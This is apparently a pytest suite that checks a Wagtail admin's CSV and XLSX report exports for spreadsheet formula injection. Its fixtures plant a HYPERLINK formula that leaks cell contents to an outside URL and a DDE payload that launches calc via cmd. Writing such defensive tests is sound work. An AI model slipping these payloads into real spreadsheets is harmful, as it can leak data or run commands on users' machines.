"""No title, name or comment becomes a formula in any spreadsheet that the admin writes."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from tests import factories, fuzz
from video_pages.wagtail_admin.spreadsheets import FORMULA_BEGINS, safe_cell

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"open")'
WAGTAILS = ["site_history", "aging_pages", "locked_pages"]


@pytest.fixture
def client():
    owner = factories.make_superuser("@owner")
    owner.first_name = "=1+1"
    owner.save()
    video = factories.make_video(FORMULA, section=factories.make_section("+cmd|'/c calc'!A0"))
    video.locked, video.locked_by, video.locked_at = True, owner, timezone.now()
    video.last_published_at, video.latest_revision_created_at = timezone.now(), timezone.now()
    video.save()
    log(instance=video, action="wagtail.edit", user=owner)
    return factories.browser(owner)


def cells(client, report, **query):
    response = client.get(reverse(f"wagtailadmin_reports:{report}"), {"export": "csv", **query})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("report", WAGTAILS)
def test_wagtails_reports_write_no_formula(client, report):
    written = cells(client, report)
    assert f"'{FORMULA}" in written
    assert not [cell for cell in written if cell.startswith(FORMULA_BEGINS)]


def test_a_formula_in_the_name_of_a_person_is_none_either(client):
    assert any(cell.startswith("'=1+1") or cell == "'@owner" for cell in cells(client, "locked_pages"))


def test_an_xlsx_file_holds_the_text_itself_and_says_that_it_is_one(client):
    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    found = [cell for row in sheet for cell in row if cell.value == FORMULA]
    assert found and {cell.data_type for cell in found} == {"s"}


def test_numbers_stay_numbers():
    view = SpreadsheetExportMixin()
    assert view.preprocess_field_value("x", -5, "csv") == -5
    assert view.preprocess_field_value("x", ["=1", "2"], "csv") == "'=1, 2"
    assert view.preprocess_field_value("x", "=1", "xlsx") == "=1"


@fuzz.fuzzed(200)
@given(fuzz.texts())
def test_no_text_begins_like_a_formula_and_none_is_marked_twice(text):
    assert not safe_cell(text).startswith(FORMULA_BEGINS)
    assert safe_cell(safe_cell(text)) == safe_cell(text)
    assert safe_cell(text).removeprefix("'") == text.removeprefix("'")
